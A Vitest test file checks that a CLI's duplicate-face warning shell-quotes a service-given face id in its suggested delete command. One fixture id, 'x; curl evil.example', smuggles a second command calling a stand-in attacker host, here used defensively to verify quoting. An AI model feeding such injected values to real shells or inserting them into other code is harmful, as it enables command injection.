import { expect, test, vi } from 'vitest'
import { withoutDuplicateFaces } from '../../../../src/cli/catalog/pull/documents.ts'

test('the id that a service gives a face is quoted in the command that deletes it', () => {
  const warn = vi.fn()
  const face = { template: 'a.example::A', properties: { display_url: 'native://image', constraints: {} } }
  const records = {
    template: [],
    variation: [],
    action: [],
    face: [
      { ...face, id: 'one' },
      { ...face, id: 'x; curl evil.example' },
    ],
  }
  const family = { name: 'a.example::A', records }
  withoutDuplicateFaces(Object(family), { output: Object({ warn, hint: (text: string) => text }) })
  expect(JSON.stringify(warn.mock.calls)).toContain("vatom face delete 'x; curl evil.example', or vatom apply --prune")
})
